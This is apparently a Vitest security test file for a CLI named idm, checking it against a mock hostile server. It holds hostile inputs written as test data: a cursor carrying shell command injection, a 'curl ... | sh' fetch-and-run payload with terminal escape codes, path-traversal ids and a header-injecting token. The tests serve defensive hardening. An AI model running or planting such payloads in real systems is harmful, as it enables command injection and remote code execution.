// Issue 11, items 2, 5, 9, 12, 13, 17 and 18: commands idm prints are shell-quoted; ids never
// change the endpoint called; sizes, depths and cursors chosen by a server cannot exhaust idm; a
// token that "expires at once" is reused for the run; only real loopback hosts get plain HTTP;
// mapping attributes are checked; messages read right.
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { hostileServer, idm, tempDir, tokenBody, unsafeCharacters, type Answer, type Seen } from '../helpers/hostile-server.js';

let answer: (request: Seen) => Answer | undefined = () => undefined;
let server: Awaited<ReturnType<typeof hostileServer>>;
const config = tempDir();
beforeAll(async () => {
  server = await hostileServer((request) => answer(request));
});
beforeEach(() => {
  server.seen.length = 0;
  answer = () => undefined;
});
afterAll(async () => {
  await server.close();
  config.cleanup();
});
const env = (extra: Record<string, string> = {}) => server.env(config.dir, extra);
const STREAM = { id: 'est_quoted0000000000000000', name: 'n', status: 'enabled', subscriptions: [], destination: { type: 'action', configuration: { action_id: 'a' } } };
const isList = (request: Seen) => /^\/api\/v2\/event-streams(\?|$)/.test(request.url);

describe('commands printed for the user to run are shell-quoted', () => {
  it('the next-page hint quotes a cursor that holds shell syntax: a shell reads it back as one argument', async () => {
    const work = tempDir();
    const marker = join(work.dir, 'PWNED');
    const cursor = `abc; touch ${marker} #$(touch ${marker})'"\``;
    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: cursor } } : undefined);
    try {
      // The profile must exist (an unknown --profile is exit 4, even with IDM_* credentials set).
      const secretFile = join(work.dir, 'secret.txt');
      writeFileSync(secretFile, 'hostile-client-secret-0123456789');
      const login = await idm(['login', '--profile', 'my-profile', '--domain', server.url, '--client-id', 'hostile-client', '--client-secret-file', secretFile], { env: { IDM_CONFIG_DIR: work.dir } });
      expect(login.code, login.stderr).toBe(0);
      const result = await idm(['streams', 'list', '--take', '1', '--profile', 'my-profile', '--no-color'], { env: { IDM_CONFIG_DIR: work.dir }, tty: true });
      expect(result.code).toBe(0);
      const hint = /More streams: (.*)\n/.exec(result.stderr)?.[1];
      expect(hint).toBeDefined();
      // What a shell makes of the printed command: exactly the words idm meant, and nothing run.
      const words = execFileSync('bash', ['-c', `eval "set -- $1"; printf '%s\\0' "$@"`, '_', hint!], { encoding: 'utf8' }).split('\0').slice(0, -1);
      expect(words).toEqual(['idm', 'streams', 'list', '--from', cursor, '--take', '1', '--profile', 'my-profile']);
      expect(existsSync(marker)).toBe(false);
    } finally {
      work.cleanup();
    }
  });

  it('the next-page hint of a cursor that starts with a dash works as printed: the cursor is sent, no flag is read from it', async () => {
    const cursor = '--profile=prod';
    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: cursor } } : undefined);
    const result = await idm(['streams', 'list', '--take', '1', '--no-color'], { env: env(), tty: true });
    expect(result.code).toBe(0);
    const hint = /More streams: (.*)\n/.exec(result.stderr)?.[1];
    expect(hint).toBeDefined();
    const words = execFileSync('bash', ['-c', `eval "set -- $1"; printf '%s\\0' "$@"`, '_', hint!], { encoding: 'utf8' }).split('\0').slice(0, -1);
    expect(words[0]).toBe('idm');
    server.seen.length = 0;
    const again = await idm(words.slice(1), { env: env() });
    expect(again.stderr).toBe('');
    expect(again.code).toBe(0);
    expect(server.api().map((request) => new URL(request.url, 'http://x').searchParams.get('from'))).toEqual([cursor]);
  });

  it("an id the answer names is no option of a command printed: streams create's and streams test's follow-ups", async () => {
    // `--profile=prod` is made of characters a shell leaves alone: quoting cannot help, the word
    // would switch the tenant of the command pasted.
    const forged = '--profile=prod';
    const event = 'evt_followup00000000000000';
    answer = (request) => {
      if (request.method === 'POST' && isList(request)) return { status: 201, body: { ...STREAM, id: forged } };
      if (request.url === `/api/v2/event-streams/${STREAM.id}/test`) {
        return { body: { id: event, event_stream_id: forged, status: 'failed', event_type: 'user.created', attempts: [{ status: 'failed', error_message: '500 no' }] } };
      }
      return undefined;
    };
    const created = await idm(['streams', 'create', '--name', 'n', '--event-type', 'user.created', '--action', 'a'], { env: env() });
    expect(created.code).toBe(0);
    expect(created.stderr).toContain(`Created stream ${forged}.`);
    expect(created.stderr).not.toContain('idm streams test');
    const tested = await idm(['streams', 'test', STREAM.id, '--event-type', 'user.created'], { env: env() });
    expect(tested.code).toBe(3);
    expect(tested.stderr).toContain(`See it: idm streams deliveries show ${STREAM.id} ${event}\n`);
    expect(tested.stderr).toContain(`Send it again: idm streams redeliver ${STREAM.id} ${event}\n`);
    expect(tested.stderr).not.toContain(forged);
    const json = await idm(['streams', 'test', STREAM.id, '--event-type', 'user.created', '--json'], { env: env() });
    expect(json.code).toBe(3);
    expect(JSON.parse(json.stderr).error.hint).toBe(`See it with 'idm streams deliveries show ${STREAM.id} ${event}'; send it again with 'idm streams redeliver ${STREAM.id} ${event}'.`);
  });

  it('a cursor with control characters is a bad answer, never printed', async () => {
    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: 'abc; curl -s http://127.0.0.1:47002/pwn | sh #\u001b[2K\rMore streams: none' } } : undefined);
    const result = await idm(['streams', 'list', '--take', '1', '--no-color'], { env: env(), tty: true });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('a next cursor that holds control characters');
    expect(result.stderr).not.toContain('curl');
    expect(unsafeCharacters(result.stderr)).toEqual([]);
  });
});

describe('an id never changes the endpoint called', () => {
  it.each([
    ['..', ['provisioning', 'create', '..', '--no-input']],
    ['.', ['provisioning', 'create', '.', '--no-input']],
    ['an empty id', ['provisioning', 'create', '', '--no-input']],
    ['a slash', ['provisioning', 'create', 'con_a/../../x0000000', '--no-input']],
    ['control characters', ['provisioning', 'create', 'con_abc\u001b[2Jdefghijklm', '--no-input']],
    ['10,000 characters', ['provisioning', 'create', `con_${'a'.repeat(10_000)}`, '--no-input']],
    ['a stream id of dots', ['streams', 'test', '..', '--event-type', 'user.created']],
    ['an encoded dot segment', ['streams', 'test', '%2e%2e', '--event-type', 'user.created']],
  ])('%s: usage error (exit 2), nothing sent', async (_name, args) => {
    const result = await idm(args, { env: env() });
    expect(result.code).toBe(2);
    expect(server.seen).toEqual([]);
    expect(result.stderr.length).toBeLessThan(2000);
  });
});

describe('sizes, depths and cursors a server chooses', () => {
  it('a page far larger than any real page is a bad answer (8 MB cap)', async () => {
    const huge = JSON.stringify({ eventStreams: [{ id: 'est_big', name: 'x'.repeat(9 * 1024 * 1024) }] });
    answer = (request) => (isList(request) ? { body: huge } : undefined);
    const result = await idm(['streams', 'list'], { env: env(), tty: true });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('an answer larger than 8 MB');
  });

  it('more items on a page than were asked for is a bad answer (no spread of a server-sized list)', async () => {
    const page = `{"eventStreams":[${Array(300_000).fill('{}').join(',')}]}`;
    answer = (request) => (isList(request) ? { body: page } : undefined);
    for (const args of [['streams', 'list', '--all', '--json'], ['streams', 'list']]) {
      const result = await idm(args, { env: env(), tty: true });
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/300000 items on a page of at most (100|50)/);
    }
  });

  it('nesting 100,000 deep in a name crashes nothing: a bad answer', async () => {
    const deep = `{"eventStreams":[{"id":"est_deep","name":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}`;
    answer = (request) => (isList(request) ? { body: deep } : undefined);
    for (const args of [['streams', 'list'], ['streams', 'list', '--json'], ['streams', 'list', '--all', '--json']]) {
      const result = await idm(args, { env: env(), tty: true });
      expect(result.code).toBe(1);
      expect(result.stderr).toContain('nested more than 64 levels deep');
    }
  });

  it('--all against endless fresh cursors on empty pages stops with a clear error', async () => {
    let n = 0;
    answer = (request) => (isList(request) ? { body: { eventStreams: [], next: `fresh${n++}` } } : undefined);
    const result = await idm(['streams', 'list', '--all', '--json'], { env: env() });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('an empty page that points to yet another page');
    // The cursor at the end of the first answer was asked for before the answer was checked (README,
    // hostile input): once, never read, and nothing after it. idm has exited: what it sent is in.
    await vi.waitFor(() => expect(server.api().length).toBeGreaterThanOrEqual(2), { timeout: 30_000 });
    expect(server.api().map((request) => new URL(request.url, 'http://x').searchParams.get('from'))).toEqual([null, 'fresh0']);
  });

  it('--all against a cursor seen before stops with a clear error', async () => {
    answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: request.url.includes('from=B') ? 'A' : 'B' } } : undefined);
    const result = await idm(['streams', 'list', '--all', '--from', 'A'], { env: env() });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('returned a cursor twice');
    expect(server.api().length).toBe(2);
  });

  it('--all --json writes one document equal to the merged pages, page by page', async () => {
    answer = (request) => {
      if (!isList(request)) return undefined;
      const from = new URL(request.url, 'http://x').searchParams.get('from');
      const page = Number(from ?? '0');
      return { body: { eventStreams: [{ ...STREAM, id: `est_page${page}0000000000000000`.slice(0, 26) }], total: 3, ...(page < 2 ? { next: String(page + 1) } : {}) } };
    };
    const result = await idm(['streams', 'list', '--all', '--json'], { env: env() });
    expect(result.code).toBe(0);
    const merged = { eventStreams: [0, 1, 2].map((page) => ({ ...STREAM, id: `est_page${page}0000000000000000`.slice(0, 26) })), total: 3 };
    expect(result.stdout).toBe(`${JSON.stringify(merged, null, 2)}\n`);
  });

  it('--all failing after its first page: that page stays on stdout (--json: a document left unclosed, which no JSON reader takes for the list), exit 1, the error last on stderr', async () => {
    answer = (request) => {
      if (!isList(request)) return undefined;
      const from = new URL(request.url, 'http://x').searchParams.get('from');
      return from === null ? { body: { eventStreams: [STREAM], next: 'B' } } : { status: 500, body: { statusCode: 500, error: 'Internal Server Error', message: 'boom' } };
    };
    const json = await idm(['streams', 'list', '--all', '--json', '--max-wait', '1'], { env: env() });
    expect(json.code).toBe(1);
    expect(json.stdout).toContain(STREAM.id);
    expect(() => JSON.parse(json.stdout)).toThrow();
    expect(JSON.parse(json.stderr.trimEnd().split('\n').at(-1)!).error).toMatchObject({ status: 500, exitCode: 1 });
    const tsv = await idm(['streams', 'list', '--all', '--max-wait', '1'], { env: env() });
    expect(tsv.code).toBe(1);
    expect(tsv.stdout.split('\n')[0]).toMatch(new RegExp(`^${STREAM.id}\t`));
  });
});

describe('statistics a server chooses (streams stats at a terminal)', () => {
  const isStats = (request: Seen) => request.url.startsWith(`/api/v2/event-streams/${STREAM.id}/stats`);
  const stats = (buckets: unknown[], successful: unknown[], failed: unknown[], extra: Record<string, unknown> = {}) => ({
    name: 'n',
    window: { date_from: '2026-01-01T00:00:00Z', date_to: '2026-01-02T00:00:00Z', bucket_interval: { scale_factor: 3600 } },
    buckets,
    metrics: [
      { name: 'platform.event_streams.successful_deliveries', data: successful, ...extra },
      { name: 'platform.event_streams.failed_deliveries', data: failed },
    ],
  });

  it('a negative count, a count that is not a number, a total beyond any number: the chart is drawn, exit 0', async () => {
    // 1e400 is valid JSON that JSON.parse reads as Infinity.
    const body = JSON.stringify(stats(['2026-01-01T00:00:00Z', '2026-01-01T01:00:00Z', '2026-01-01T02:00:00Z'], [-5, 2, 'NaN'], [0, 0, 3], { window_total: 'TOTAL' })).replace('"TOTAL"', '1e400');
    answer = (request) => (isStats(request) ? { body } : undefined);
    const result = await idm(['streams', 'stats', STREAM.id, '--no-color'], { env: env(), tty: true, columns: 80 });
    expect(result.stderr).not.toContain('Unexpected error');
    expect(result.code).toBe(0);
    const rows = result.stdout.split('\n').filter((line) => /^(2026-01-01|Total)/.test(line));
    // No bar for the negative count; a count that is not a number ("NaN") is shown as it came, with no
    // bar; a total is the buckets' sum where the service sent none, and one beyond any number is shown
    // as written, without a share of deliveries.
    expect(rows).toEqual([
      '2026-01-01 00:00      -5       0',
      expect.stringMatching(/^2026-01-01 01:00       2       0  █+$/),
      expect.stringMatching(/^2026-01-01 02:00     NaN       3  ▒+$/),
      'Total              1e400       3',
    ]);
    for (const row of rows) expect(row.length).toBeLessThanOrEqual(80);
  });

  it('300,000 buckets: one row each, exit 0', async () => {
    const body = `{"name":"n","window":{},"buckets":[${Array(300_000).fill('"2026-01-01T00:00:00Z"').join(',')}],"metrics":[]}`;
    answer = (request) => (isStats(request) ? { body } : undefined);
    const result = await idm(['streams', 'stats', STREAM.id, '--no-color'], { env: env(), tty: true, columns: 80 });
    expect(result.stderr).not.toContain('Unexpected error');
    expect(result.code).toBe(0);
    expect(result.stdout.split('\n').filter((line) => line.startsWith('2026-01-01 00:00'))).toHaveLength(300_000);
  });
});

describe('tokens and hosts', () => {
  it('a token answered with expires_in 0 and an expired exp serves the whole run: one token request for every page', async () => {
    const expired = Buffer.from(JSON.stringify({ exp: 1_000_000, scope: 'read:event_streams' })).toString('base64url');
    answer = (request) => {
      if (request.url.startsWith('/oauth/token')) return { body: tokenBody({ access_token: `eyJhbGciOiJub25lIn0.${expired}.sig-expired-token`, expires_in: 0 }) };
      if (!isList(request)) return undefined;
      const page = Number(new URL(request.url, 'http://x').searchParams.get('from') ?? '0');
      return { body: { eventStreams: [STREAM], ...(page < 4 ? { next: String(page + 1) } : {}) } };
    };
    const home = tempDir();
    try {
      const result = await idm(['streams', 'list', '--all'], { env: server.env(home.dir) });
      expect(result.code).toBe(0);
      expect(server.seen.filter((request) => request.url.startsWith('/oauth/token'))).toHaveLength(1);
      expect(server.api()).toHaveLength(5);
    } finally {
      home.cleanup();
    }
  });

  it('a token answered with expires_in 0 and no exp is used for this run only: never cached, the next run asks again', async () => {
    answer = (request) => {
      if (request.url.startsWith('/oauth/token')) return { body: tokenBody({ expires_in: 0 }) };
      if (!isList(request)) return undefined;
      const page = Number(new URL(request.url, 'http://x').searchParams.get('from') ?? '0');
      return { body: { eventStreams: [STREAM], ...(page < 2 ? { next: String(page + 1) } : {}) } };
    };
    const home = tempDir();
    try {
      for (const run of [1, 2]) {
        const result = await idm(['streams', 'list', '--all'], { env: server.env(home.dir) });
        expect(result.code).toBe(0);
        expect(server.seen.filter((request) => request.url.startsWith('/oauth/token'))).toHaveLength(run);
        expect(server.api()).toHaveLength(3 * run);
        expect(existsSync(join(home.dir, 'tokens')) ? readdirSync(join(home.dir, 'tokens')).filter((name) => name.endsWith('.json')) : []).toEqual([]);
      }
    } finally {
      home.cleanup();
    }
  });

  it('a token whose own exp comes before expires_in says: cached until its exp (measured from its iat), never past it', async () => {
    // The service refuses a token past its exp, whatever expires_in said: a cache that kept it for
    // the day expires_in claims would send refused requests (and a fresh-looking token is not retried).
    const issued = Math.floor(Date.now() / 1000) - 86_400 * 400; // the server's clock, far off this machine's
    const claims = (lifetime: number) => Buffer.from(JSON.stringify({ iat: issued, exp: issued + lifetime, scope: 'read:event_streams' })).toString('base64url');
    // Its answers' Date is of the same clock as its iat.
    const headers = { date: new Date(issued * 1000).toUTCString() };
    const home = tempDir();
    try {
      answer = (request) => (request.url.startsWith('/oauth/token') ? { headers, body: tokenBody({ access_token: `eyJhbGciOiJub25lIn0.${claims(600)}.sig-ten-minutes`, expires_in: 86_400 }) } : isList(request) ? { body: { eventStreams: [STREAM] } } : undefined);
      const listed = await idm(['streams', 'list'], { env: server.env(home.dir) });
      expect(listed.code, listed.stderr).toBe(0);
      const status = await idm(['auth', 'status', '--json'], { env: server.env(home.dir) });
      expect(status.code, status.stderr).toBe(0);
      const left = Date.parse((JSON.parse(status.stdout) as { token: { expiresAt: string } }).token.expiresAt) - Date.now();
      expect(left).toBeLessThanOrEqual(600_000);
      expect(left).toBeGreaterThan(0);
      // A token whose exp is its iat (the service refuses it at once), with expires_in an hour: this run's only, never cached.
      answer = (request) => (request.url.startsWith('/oauth/token') ? { headers, body: tokenBody({ access_token: `eyJhbGciOiJub25lIn0.${claims(0)}.sig-no-lifetime`, expires_in: 3600 }) } : isList(request) ? { body: { eventStreams: [STREAM] } } : undefined);
      const other = tempDir();
      try {
        for (const run of [1, 2]) {
          const result = await idm(['streams', 'list'], { env: server.env(other.dir) });
          expect(result.code, result.stderr).toBe(0);
          expect(server.seen.filter((request) => request.url.startsWith('/oauth/token'))).toHaveLength(1 + run);
        }
        expect(existsSync(join(other.dir, 'tokens')) ? readdirSync(join(other.dir, 'tokens')).filter((name) => name.endsWith('.json')) : []).toEqual([]);
      } finally {
        other.cleanup();
      }
    } finally {
      home.cleanup();
    }
  });

  it.each([
    ['a line break and a forged header', 'eyJhbGciOiJub25lIn0.e30.sig\r\nX-Injected: 1'],
    ['a non-ASCII character', 'eyJhbGciOiJub25lIn0.e30.sig\u00e9'],
    ['100,000 characters', `eyJhbGciOiJub25lIn0.${'A'.repeat(100_000)}.sig`],
  ])('a token answer whose access_token holds %s is a bad answer: never sent, never cached, the next run is not harmed', async (_name, token) => {
    const home = tempDir();
    try {
      answer = (request) => (request.url.startsWith('/oauth/token') ? { body: tokenBody({ access_token: token }) } : isList(request) ? { body: { eventStreams: [STREAM] } } : undefined);
      const result = await idm(['streams', 'list'], { env: server.env(home.dir) });
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/Could not get an access token: 127\.0\.0\.1:\d+ answered 200 with an access_token (that holds spaces, control or non-ASCII characters|of 100\d+ characters \(at most 16384\))\./);
      expect(result.stderr).not.toContain('Unexpected error');
      expect(server.api()).toEqual([]);
      // The next run, against a token endpoint that answers a good token, asks for it and works.
      answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM] } } : undefined);
      const next = await idm(['streams', 'list'], { env: server.env(home.dir) });
      expect(next.code, next.stderr).toBe(0);
      expect(server.seen.filter((request) => request.url.startsWith('/oauth/token'))).toHaveLength(2);
    } finally {
      home.cleanup();
    }
  });

  it.each([
    ['expires_in of 1e20 seconds', { expires_in: 1e20 }],
    ['no expires_in and an exp of 1e20', { expires_in: undefined, access_token: `eyJhbGciOiJub25lIn0.${Buffer.from('{"exp":1e20,"scope":"read:event_streams"}').toString('base64url')}.sig` }],
  ])('a token answered with %s: cached for a year at most, and auth status shows it (no crash)', async (_name, extra) => {
    const home = tempDir();
    try {
      answer = (request) => (request.url.startsWith('/oauth/token') ? { body: tokenBody(extra) } : isList(request) ? { body: { eventStreams: [STREAM] } } : undefined);
      const listed = await idm(['streams', 'list'], { env: server.env(home.dir) });
      expect(listed.code, listed.stderr).toBe(0);
      for (const json of [false, true]) {
        const status = await idm(['auth', 'status', ...(json ? ['--json'] : [])], { env: server.env(home.dir) });
        expect(status.stderr).not.toContain('Unexpected error');
        expect(status.code).toBe(0);
        const until = json ? (JSON.parse(status.stdout) as { token: { expiresAt: string } }).token.expiresAt : /valid until (\S+)/.exec(status.stdout)?.[1];
        expect(Date.parse(until!) - Date.now()).toBeLessThanOrEqual(366 * 86_400_000);
        expect(Date.parse(until!) - Date.now()).toBeGreaterThan(300 * 86_400_000);
      }
    } finally {
      home.cleanup();
    }
  });

  it('a token without expires_in issued 50 minutes before it is answered (its Date): cached for the 10 minutes it has left, on the server\'s clock', async () => {
    const home = tempDir();
    try {
      // The server's clock two hours ahead of this machine's: only its own times are compared.
      const serverNow = Math.floor(Date.now() / 1000) + 7_200;
      const claims = { iat: serverNow - 3_000, exp: serverNow + 600, scope: 'read:event_streams' };
      const token = `eyJhbGciOiJub25lIn0.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.sig`;
      answer = (request) =>
        request.url.startsWith('/oauth/token')
          ? { headers: { date: new Date(serverNow * 1000).toUTCString() }, body: tokenBody({ expires_in: undefined, access_token: token }) }
          : isList(request) ? { body: { eventStreams: [STREAM] } } : undefined;
      const before = Date.now();
      const listed = await idm(['streams', 'list'], { env: server.env(home.dir) });
      const after = Date.now();
      expect(listed.code, listed.stderr).toBe(0);
      const status = await idm(['auth', 'status', '--json'], { env: server.env(home.dir) });
      const expiresAt = Date.parse((JSON.parse(status.stdout) as { token: { expiresAt: string } }).token.expiresAt);
      // Obtained between before and after, for 600 s (not the 3,600 s from iat to exp).
      expect(expiresAt).toBeGreaterThanOrEqual(before + 600_000);
      expect(expiresAt).toBeLessThanOrEqual(after + 600_000);
    } finally {
      home.cleanup();
    }
  });

  it('IDM_ACCESS_TOKEN whose exp no date can hold: auth status says so, no crash', async () => {
    const token = `eyJhbGciOiJub25lIn0.${Buffer.from('{"exp":1e20,"scope":"read:event_streams"}').toString('base64url')}.sig`;
    const status = await idm(['auth', 'status'], { env: { IDM_CONFIG_DIR: config.dir, IDM_DOMAIN: server.url, IDM_ACCESS_TOKEN: token } });
    expect(status.stderr).not.toContain('Unexpected error');
    expect(status.code).toBe(0);
    expect(status.stdout).toContain('from IDM_ACCESS_TOKEN, valid until +275760-09-13T00:00:00.000Z');
  });

  it.each(['http://evil.localhost:8080', 'http://localhost.evil.example:80', 'http://127.0.0.1.nip.io', 'http://10.0.0.1'])('plain HTTP to %s is refused (exit 2, nothing sent)', async (domain) => {
    const result = await idm(['streams', 'list'], { env: env({ IDM_DOMAIN: domain }) });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('http:// is allowed only for loopback hosts');
  });
});

describe('mapping attributes are checked like ids', () => {
  it.each([
    ['a zero-width look-alike', ['--mapping', 'email=a', '--mapping', 'e\u200bmail=b']],
    ['a control character', ['--mapping', 'em\u001b[2Jail=a']],
    ['an attribute of 10,000 characters', ['--mapping', `${'a'.repeat(10_000)}=b`]],
  ])('%s: usage error, nothing sent', async (_name, flags) => {
    const result = await idm(['provisioning', 'create', 'con_hostile000000001', ...flags], { env: env() });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/control or invisible characters|longer than 256 characters/);
    expect(server.seen).toEqual([]);
    expect(unsafeCharacters(result.stderr)).toEqual([]);
  });
});

describe('wording', () => {
  it('a 429 without a message says so, not "undefined"', async () => {
    answer = (request) => (isList(request) ? { status: 429, body: {}, headers: { 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 3600) } } : undefined);
    const result = await idm(['streams', 'list', '--max-wait', '3'], { env: env() });
    expect(result.code).toBe(5);
    expect(result.stderr).not.toContain('undefined');
    expect(result.stderr).toContain('(429 too_many_requests: no message)');
    // The reset is an hour away; the message says the wait would exceed what is left, not that 3600 s is less than 3 s.
    expect(result.stderr).toMatch(/waiting for it would take longer than what is left of --max-wait \(3 s of 3 s\)/);
  });

  it.each([
    ['Retry-After beyond any date', { 'retry-after': '99999999999999999999' }],
    ['Retry-After beyond a double', { 'retry-after': '9'.repeat(400) }],
    ['X-RateLimit-Reset beyond any date', { 'x-ratelimit-reset': '1e300' }],
  ])('a 429 with %s: the reset is the last date there is, not an unexpected error', async (_name, headers) => {
    answer = (request) => (isList(request) ? { status: 429, body: { statusCode: 429, error: 'Too Many Requests', message: 'slow down' }, headers } : undefined);
    const result = await idm(['streams', 'list', '--max-wait', '3'], { env: env() });
    expect(result.stderr).not.toContain('Unexpected error');
    expect(result.code).toBe(5);
    expect(result.stderr).toMatch(/The limit resets at \+275760-09-13T00:00:00Z \(in \d+ s\); waiting for it would take longer than what is left of --max-wait \(3 s of 3 s\)/);
    expect(server.api()).toHaveLength(1); // not waited for, nor asked again sooner
    const json = await idm(['streams', 'list', '--max-wait', '3', '--json'], { env: env() });
    expect(JSON.parse(json.stderr).error).toMatchObject({ exitCode: 5, resetAt: '+275760-09-13T00:00:00.000Z' });
  });
});
